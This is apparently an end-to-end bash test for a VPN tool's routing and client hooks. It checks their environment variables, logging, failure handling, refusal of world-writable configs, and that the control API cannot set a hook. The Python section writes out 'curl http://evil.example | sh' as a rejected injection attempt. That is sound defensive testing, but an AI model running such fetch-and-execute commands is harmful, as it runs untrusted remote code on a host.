#!/usr/bin/env bash
# e2e: routing.post_up / routing.post_down on the server and post_up / post_down on the
# client (docs/CONFIG.md §5.2, §7): each runs with its documented environment, its output
# lands in the log, a failing server post_up refuses to start with the hook's exit status,
# a client config others may write never runs commands, and the control API's
# config-save refuses to set a hook (never settable from a network-facing interface).
# Usage: hooks.sh QELI_BINARY
set -euo pipefail
QELI=$(readlink -f "$1")
source "$(dirname "$0")/netns.sh"
source "$(dirname "$0")/lib.sh"
e2e_setup

dir="$E2E_DIR/hooks"
mkdir -p "$dir"
e2e_server_conf "$dir" fake-tls "tun.tx_queue_len = 321
routing.post_up = env | grep ^QELI_ | sort > $dir/up.env; echo hello from post_up
routing.post_down = env | grep ^QELI_ | sort > $dir/down.env"
e2e_add_user "$dir" alice alice-pass >/dev/null
e2e_start_server server "$dir"
e2e_wait_for 5 test -s "$dir/up.env" || e2e_fail "routing.post_up did not run"
for want in QELI_PROFILE=e2e QELI_TUN=qes0 "QELI_POOL=$TUN_NET.0/24" QELI_BIND_PORT=$E2E_PORT; do
  grep -qx "$want" "$dir/up.env" || e2e_fail "post_up environment lacks $want: $(cat "$dir/up.env")"
done
grep -q '^QELI_WAN=' "$dir/up.env" || e2e_fail "post_up environment lacks QELI_WAN"
grep -q "routing.post_up: hello from post_up" "$E2E_DIR/server.log" || e2e_fail "hook output not logged"
grep -q "qlen 321" <<<"$(ip -n "$NS_S" link show qes0)" || e2e_fail "tun.tx_queue_len not applied"

# The control API (what a panel would use) cannot change a hook.
python3 - "$dir/control.sock" "$(dirname "$(readlink -f "$0")")/tools" <<'PY' ||
import sys
sys.path.insert(0, sys.argv[2])
from control_call import call
cur = call(sys.argv[1], {"cmd": "config-get"})
assert cur["ok"], cur
text = cur["text"].replace("echo hello from post_up", "curl http://evil.example | sh")
r = call(sys.argv[1], {"cmd": "config-save", "text": text, "base_sha256": cur["sha256"]})
assert not r["ok"], r
assert "cannot be changed" in r["error"] or any(
    "cannot be changed" in f.get("message", "") for f in r.get("findings", [])), r
PY
  e2e_fail "config-save changed a hook"
grep -q "curl" "$dir/server.conf" && e2e_fail "the config file was changed"

# Client hooks: environment of the session, run around it.
conf=$(e2e_client_conf "$dir" alice alice alice-pass "post_up = env | grep ^QELI_ | sort > $dir/cup.env
post_down = touch $dir/cdown.done")
chmod 600 "$conf"
e2e_start_client alice "$NS_C" "$dir" -c "$conf"
e2e_wait_tunnel 15 "$NS_C" >/dev/null || e2e_fail "no tunnel"
e2e_wait_for 5 test -s "$dir/cup.env" || e2e_fail "client post_up did not run"
for want in QELI_DEV=vpn0 QELI_USER=alice "QELI_SERVER_TUNNEL_IP=$TUN_NET.1" QELI_FULL_TUNNEL=0; do
  grep -qx "$want" "$dir/cup.env" || e2e_fail "client post_up lacks $want: $(cat "$dir/cup.env")"
done
grep -q "^QELI_TUNNEL_IP=$TUN_NET\." "$dir/cup.env" || e2e_fail "client post_up lacks QELI_TUNNEL_IP"
e2e_finish alice
test -e "$dir/cdown.done" || e2e_fail "client post_down did not run"

# A config others may write never runs commands.
chmod 666 "$conf"
e2e_start_client unsafe "$NS_C" "$dir" -c "$conf"
e2e_wait_exit unsafe 10
[ "$E2E_RC" = 1 ] || e2e_fail "a world-writable client config with hooks was used (exit $E2E_RC)"
grep -q "writable by its group or others" "$E2E_DIR/unsafe.log" || e2e_fail "no reason given"

e2e_finish server
test -s "$dir/down.env" || e2e_fail "routing.post_down did not run at stop"
grep -qx "QELI_PROFILE=e2e" "$dir/down.env" || e2e_fail "post_down environment"

# A failing post_up refuses to start, naming the hook's status.
sed -i 's|^routing.post_up = .*|routing.post_up = echo failing; exit 3|' "$dir/server.conf"
e2e_bg server2 "$NS_S" "$QELI" server -c "$dir/server.conf" --identity-dir "$dir/identity" \
  --socket "$dir/control2.sock" --usage-db ""
e2e_wait_exit server2 15
[ "$E2E_RC" = 1 ] || e2e_fail "the server started with a failing post_up (exit $E2E_RC)"
grep -q "routing.post_up failed: exit 3" "$E2E_DIR/server2.log" || e2e_fail "no hook status"
e2e_log "hooks ok"
